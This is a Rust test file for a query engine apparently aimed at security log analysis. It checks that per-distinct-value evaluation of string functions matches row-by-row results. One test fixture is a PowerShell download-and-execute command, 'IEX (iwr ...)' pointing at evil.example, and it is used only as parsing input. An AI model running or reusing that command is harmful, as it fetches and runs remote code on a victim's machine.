//! Costly functions over a column whose values repeat run once per distinct value: the answers
//! must be the ones the row-by-row evaluation gives for each value.

mod common;

use common::rows;
use serde_json::Value;
use std::collections::HashMap;

/// The distinct texts the long column cycles through.
const TEXTS: &[&str] = &[
    r#"powershell.exe -nop -c "IEX (iwr 'https://evil.example/a.ps1?x=1')" -ComputerName srv-7 -x"#,
    r#"cmd.exe /c dir C:\Windows\Temp"#,
    "",
    r#"{"Tags": ["lolbin", "signed"], "Signer": "Microsoft", "Size": 12}"#,
    r#"not json {"#,
    "https://Host.example:8080/p/q.txt?z=%41&y=a%20b#frag",
    "aGVsbG8gd29ybGQ=",
];

/// The calls whose kernels opt in to per-distinct evaluation, plus the `parse` operator.
const EXTENSIONS: &str = r##"
    | extend Host = extract(@"https?://([a-z0-9.-]+)", 1, s)
    | extend Long = extract(@"x=(\d+)", 1, s, typeof(long))
    | extend Words = extract_all(@"(\w+)\.exe", s)
    | extend Replaced = replace_regex(s, @"[0-9]", "#")
    | extend Parts = split(s, " ")
    | extend Url = parse_url(s), Path = parse_path(s), Args = parse_command_line(s, "windows")
    | extend Decoded = url_decode(s), B64 = base64_decode_tostring(s), Hash = hash_sha256(s)
    | extend Tags = parse_json(s).Tags, Signer = tostring(todynamic(s)["Signer"])
    | extend Count = countof(s, "e"), At = indexof_regex(s, @"\d")
    | parse kind=relaxed s with * "-ComputerName " Target " " *"##;

fn case_expression() -> String {
    let mut arms = String::new();
    for (i, text) in TEXTS.iter().enumerate().skip(1) {
        arms.push_str(&format!("i % {} == {i}, {}, ", TEXTS.len(), literal(text)));
    }
    format!("case({arms}{})", literal(TEXTS[0]))
}

fn literal(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
}

#[test]
fn per_distinct_answers_equal_row_by_row_answers() {
    let long = format!(
        "range i from 0 to 699 step 1 | extend s = {} | project-away i{EXTENSIONS}",
        case_expression()
    );
    let short = format!(
        "datatable(s:string)[{}]{EXTENSIONS}",
        TEXTS
            .iter()
            .map(|t| literal(t))
            .collect::<Vec<_>>()
            .join(", ")
    );
    let by_text: HashMap<String, Vec<Value>> = rows(&short)
        .into_iter()
        .map(|row| (row[0].as_str().unwrap().to_string(), row))
        .collect();
    assert_eq!(by_text.len(), TEXTS.len(), "{short}");
    let long_rows = rows(&long);
    assert_eq!(long_rows.len(), 700);
    for row in long_rows {
        let text = row[0].as_str().unwrap();
        assert_eq!(Some(&row), by_text.get(text), "text {text:?}");
    }
}

#[test]
fn mv_expand_of_a_repetitive_json_column_expands_every_row() {
    let query = format!(
        "range i from 0 to 699 step 1 | extend s = {} | mv-expand Tag = parse_json(s).Tags \
         | summarize Rows = count() by Tag = tostring(Tag) | order by Tag asc",
        case_expression()
    );
    // Every seventh row holds the JSON bag with two tags; the other six keep one (null) element.
    let expected = vec![
        vec![Value::from(""), Value::from(600)],
        vec![Value::from("lolbin"), Value::from(100)],
        vec![Value::from("signed"), Value::from(100)],
    ];
    assert_eq!(rows(&query), expected, "{query}");
}
